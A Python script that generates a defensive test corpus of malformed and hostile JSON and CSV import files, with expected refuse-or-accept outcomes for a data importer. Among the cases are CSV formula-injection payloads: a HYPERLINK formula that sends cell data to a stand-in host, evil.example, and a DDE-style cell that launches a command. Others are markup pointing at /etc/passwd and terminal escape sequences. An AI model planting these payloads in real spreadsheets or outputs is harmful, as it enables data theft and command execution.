"""Write the corpus of hostile import files under ``tests/data/hostile/`` and what each must do.

Each case is one ``.json`` file or one folder of CSV tables, made to break a careless reader:
wrong types, truncation, oversized values, formula cells, wrong encodings and byte order
marks, deep nesting, huge numbers, NUL, lone surrogates, terminal escapes and markup.
``EXPECTED.json`` says, per case, whether the import must be refused (and a fragment of the
one-line message) or accepted (and how many actors it adds). ``tests/test_hostile_corpus.py``
imports every case into a store and holds the readers to it.

The files are committed so a change of this script shows up in review; re-run it with
``python scripts/make_hostile_corpus.py`` after changing a case.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "data" / "hostile"
FORMAT = "sandbox-matchmaker/1"
ACTOR = {"id": "h1", "kind": "startup", "name": "Kood OÜ", "country": "EE"}
OTHER = {"id": "h2", "kind": "ngo", "name": "Hromada", "country": "UA"}
HEADER = "id,kind,name,country,offers\r\n"


def doc(**sections) -> str:
    return json.dumps({"format": FORMAT, **sections}, ensure_ascii=False)


def raw_doc(body: str) -> str:
    """A document written by hand, for what json.dumps cannot write (a key twice, a bare escape)."""
    return '{"format": "' + FORMAT + '", ' + body + "}"


def actor(**changes) -> str:
    return doc(actors=[{**ACTOR, **changes}])


def escaped_actor(**changes) -> str:
    """Non-ASCII written as \\u escapes: the only way a lone surrogate can reach a UTF-8 file."""
    return json.dumps({"format": FORMAT, "actors": [{**ACTOR, **changes}]}, ensure_ascii=True)


def refused(fragment: str) -> dict:
    return {"outcome": "refused", "message": fragment}


def accepted(actors: int, **checks) -> dict:
    return {"outcome": "accepted", "actors": actors, **checks}


def decision(moment: str) -> str:
    return doc(actors=[ACTOR, OTHER], decisions=[{"a": "h1", "b": "h2", "suggested_at": moment}])


# name -> (content: str or bytes for a .json file, or {table: str|bytes} for a CSV folder, expectation)
CASES: dict[str, tuple[object, dict]] = {
    # --- JSON: structure and types
    "top-level-array.json": ("[]", refused('expected a JSON object with "format"')),
    "top-level-string.json": ('"hello"', refused('expected a JSON object with "format"')),
    "null-document.json": ("null", refused('expected a JSON object with "format"')),
    "wrong-format-id.json": ('{"format": "sandbox-matchmaker/2"}', refused("field 'format'")),
    "unknown-section.json": (doc(people=[]), refused("field 'people': is not a known section")),
    "actors-is-object.json": (doc(actors={}), refused("$.actors: expected a list of objects")),
    "name-is-number.json": (actor(name=42), refused("field 'name': expected a string")),
    "id-is-boolean.json": (actor(id=True), refused("field 'id': expected a string, got a boolean")),
    "offers-is-string.json": (actor(offers="Python"), refused("field 'offers': expected a list")),
    "tie-weight-is-text.json": (
        doc(actors=[ACTOR, OTHER], ties=[{"source": "h1", "target": "h2", "kind": "knows", "weight": "x"}]),
        refused("field 'weight': expected a number"),
    ),
    # --- JSON: truncated, empty, encodings
    "truncated.json": (doc(actors=[ACTOR, OTHER])[:40], refused("is not valid JSON")),
    "empty.json": ("", refused("is not valid JSON")),
    "only-a-bom.json": (b"\xef\xbb\xbf", refused("is not valid JSON")),
    "bom-then-valid.json": (b"\xef\xbb\xbf" + actor().encode(), accepted(1)),
    "utf16-with-bom.json": (actor().encode("utf-16"), refused("is not valid UTF-8")),
    "latin1-name.json": (
        actor(name="Malõšev").encode("utf-8").replace("õ".encode(), b"\xf5"),
        refused("UTF-8"),
    ),
    # --- JSON: nesting and numbers
    "nested-arrays-100000-deep.json": ("[" * 100_000 + "]" * 100_000, refused("nested too deeply")),
    "nested-objects-20000-deep.json": ('{"a":' * 20_000 + "1" + "}" * 20_000, refused("nested too deeply")),
    "weight-1000-digits.json": (
        doc(actors=[ACTOR, OTHER]).replace(
            '"actors"',
            '"ties": [{"source": "h1", "target": "h2", "kind": "knows", "weight": '
            + "9" * 1000
            + '}], "actors"',
        ),
        refused("field 'weight': is a number with 1,000 digits"),
    ),
    "weight-5000-digits.json": (
        doc(actors=[ACTOR, OTHER]).replace(
            '"actors"',
            '"ties": [{"source": "h1", "target": "h2", "kind": "knows", "weight": '
            + "9" * 5000
            + '}], "actors"',
        ),
        refused("field 'weight': is a number with 5,000 digits"),
    ),
    "weight-huge-exponent.json": (
        doc(actors=[ACTOR, OTHER]).replace(
            '"actors"',
            '"ties": [{"source": "h1", "target": "h2", "kind": "knows", "weight": 1e999999}], "actors"',
        ),
        refused("field 'weight': expected a number, got a number (inf)"),
    ),
    "weight-nan.json": (
        doc(actors=[ACTOR, OTHER]).replace(
            '"actors"', '"ties": [{"source": "h1", "target": "h2", "kind": "knows", "weight": NaN}], "actors"'
        ),
        refused("field 'weight': expected a number, got a number (nan)"),
    ),
    # --- JSON: duplicate keys, NUL, surrogates, control characters
    "duplicate-key-in-actor.json": (
        raw_doc('"actors": [{"id": "h1", "id": "h9", "kind": "ngo", "name": "N", "country": "EE"}]'),
        refused("$.actors[0], field 'id': appears twice in one object"),
    ),
    "duplicate-section.json": (
        raw_doc(f'"actors": [], "actors": [{json.dumps(ACTOR)}]'),
        refused("$, field 'actors': appears twice"),
    ),
    "lone-surrogate-in-name.json": (
        escaped_actor(name="Kood\ud800"),
        refused("field 'name': holds a lone UTF-16 surrogate"),
    ),
    "lone-surrogate-in-key.json": (
        raw_doc('"actors": [{"id": "h1", "kind": "ngo", "name": "N", "country": "EE", "\\udc00": 1}]'),
        refused("holds a lone UTF-16 surrogate"),
    ),
    "nul-in-name.json": (actor(name="Kood\x00OÜ"), refused("field 'name': holds a NUL character")),
    "nul-in-tie-source.json": (
        doc(actors=[ACTOR, OTHER], ties=[{"source": "h1\x00", "target": "h2", "kind": "knows"}]),
        refused("field 'source': holds a NUL character"),
    ),
    "control-character-in-id.json": (
        actor(id="h1\x1b[2J"),
        refused("field 'id': must not hold control characters"),
    ),
    "terminal-escapes-in-name.json": (
        actor(name="Kood\x1b[2J\x1b]0;pwned\x07\x9b31m", description="line\r\nbell\x07"),
        accepted(1),
    ),
    "markup-in-name.json": (actor(name="<img src=file:///etc/passwd><b>bold</b>"), accepted(1)),
    "bidi-override-in-name.json": (actor(name="Kood\u202eUÖ doo\u202c"), accepted(1)),
    "formula-in-name.json": (actor(name='=HYPERLINK("http://evil.example/?"&A1)'), accepted(1)),
    # --- JSON: time zones and dates
    "timezone-pushes-before-year-1.json": (
        decision("0001-01-01T00:00:00+23:59"),
        refused("field 'suggested_at': lies outside the years 1–9999"),
    ),
    "timezone-pushes-past-year-9999.json": (
        decision("9999-12-31T23:59:59-23:59"),
        refused("field 'suggested_at': lies outside the years 1–9999"),
    ),
    "timezone-24-hours.json": (decision("2025-01-01T00:00:00+24:00"), refused("field 'suggested_at'")),
    "timezone-far-but-valid.json": (decision("2025-06-01T09:00:00-23:59"), accepted(2)),
    "date-month-13.json": (
        doc(
            actors=[ACTOR, OTHER],
            ties=[{"source": "h1", "target": "h2", "kind": "knows", "since": "2024-13-01"}],
        ),
        refused("field 'since': expected a date"),
    ),
    # --- JSON: sizes
    "tag-of-50000-characters.json": (
        actor(offers=["x" * 50_000]),
        refused("field 'offers[0]': is 50,000 characters"),
    ),
    "description-of-25000-characters.json": (actor(description="d" * 25_000), refused("field 'description'")),
    "sector-of-1000-characters.json": (actor(sectors=["s" * 1000]), refused("field 'sectors[0]'")),
    "sectors-51.json": (
        actor(sectors=[f"s{i}" for i in range(51)]),
        refused("field 'sectors': has more than 50"),
    ),
    "offers-5000.json": (
        actor(offers=[f"tag {i}" for i in range(5000)]),
        refused("field 'offers': has 5,000 skills"),
    ),
    "name-of-301-characters.json": (actor(name="n" * 301), refused("field 'name': is 301 characters long")),
    # --- CSV folders
    "csv-formula-cells": (
        {
            "actors.csv": HEADER
            + '"=HYPERLINK(""http://evil.example/?""&A1)",startup,=1+2,EE,\r\n'
            + "'@SUM(A1),ngo,+cmd|' /C calc'!A0,UA,-x\r\n"
        },
        accepted(2),
    ),
    "csv-cut-mid-row": (
        {
            "actors.csv": HEADER + "h1,startup,Kood,EE,\r\nh2,ngo,Hromada,UA,\r\n",
            "ties.csv": "source,target,kind,since,weight\r\nh1,h2,knows,2024-01-01,1\r\nh2,h1,partner,2024",
        },
        refused("ties.csv: line 3, field 'weight': the file ends in the middle of this row"),
    ),
    "csv-short-row": (
        {"actors.csv": HEADER + "h1,startup,Kood,EE,\r\nh2,ngo,Hromada\r\n"},
        refused("line 3, field 'country': is missing"),
    ),
    "csv-long-row": ({"actors.csv": HEADER + "h1,startup,Kood,EE,,,\r\n"}, refused("line 2: has 7 values")),
    "csv-unterminated-quote": (
        {"actors.csv": HEADER + 'h1,startup,"Kood,EE,\r\n'},
        refused("is not valid CSV"),
    ),
    "csv-header-syntax-error": ({"actors.csv": '"id,kind\r\n'}, refused("line 1: is not valid CSV")),
    "csv-duplicate-column": (
        {"actors.csv": "id,kind,name,country,name\r\nh1,startup,A,EE,B\r\n"},
        refused("line 1, field 'name': is a column twice"),
    ),
    "csv-unknown-column": ({"actors.csv": "id,kind,name,country,colour\r\n"}, refused("field 'colour'")),
    "csv-bom-and-diacritics": (
        {"actors.csv": ("\ufeff" + HEADER + "h1,person,Malõšev,UA,\r\nh2,ngo,Київ Хаб,UA,\r\n").encode()},
        accepted(2, names=["Malõšev", "Київ Хаб"]),
    ),
    "csv-utf16": (
        {"actors.csv": (HEADER + "h1,ngo,Kood,EE,\r\n").encode("utf-16")},
        refused("not valid UTF-8"),
    ),
    "csv-nul-byte": (
        {"actors.csv": HEADER + "h1,ngo,Ko\x00od,EE,\r\n"},
        refused("line 2, field 'name': holds a NUL"),
    ),
    "csv-quadratic-skill-weight": (
        {"actors.csv": HEADER + "h1,ngo,Kood,EE,a=" + "1" * 130_000 + "x\r\n"},
        refused("field 'offers[0]': is 130,003 characters long"),
    ),
    "csv-cell-beyond-csv-limit": (
        {"actors.csv": HEADER + "h1,ngo,Kood,EE," + "y" * 200_000 + "\r\n"},
        refused("field larger than field limit"),
    ),
    "csv-empty-file": ({"actors.csv": ""}, refused("is empty; expected a header row")),
    "csv-header-only": ({"actors.csv": HEADER}, accepted(0)),
    "csv-old-mac-line-ends": (
        {"actors.csv": HEADER.replace("\r\n", "\r") + "h1,ngo,Kood,EE,\r"},
        accepted(1),
    ),
    "csv-binary-garbage": (
        {"actors.csv": bytes(range(256)) * 4},
        refused("is not valid UTF-8"),
    ),
    "csv-weight-with-exponent": (
        {"actors.csv": HEADER + "h1,ngo,Kood,EE,egov:x-road=1e-05\r\n"},
        accepted(1),
    ),
    "csv-weight-out-of-range": (
        {"actors.csv": HEADER + "h1,ngo,Kood,EE,egov:x-road=1.5\r\n"},
        refused("field 'offers[0]': weight must be in (0, 1]"),
    ),
}


def _bytes(content) -> bytes:
    return content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    expected = {}
    for name, (content, expectation) in CASES.items():
        if isinstance(content, dict):
            (OUT / name).mkdir()
            for table, text in content.items():
                (OUT / name / table).write_bytes(_bytes(text))
        else:
            (OUT / name).write_bytes(_bytes(content))
        expected[name] = expectation
    (OUT / "EXPECTED.json").write_text(
        json.dumps(expected, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    print(f"{len(CASES)} cases written to {OUT}")


if __name__ == "__main__":
    main()
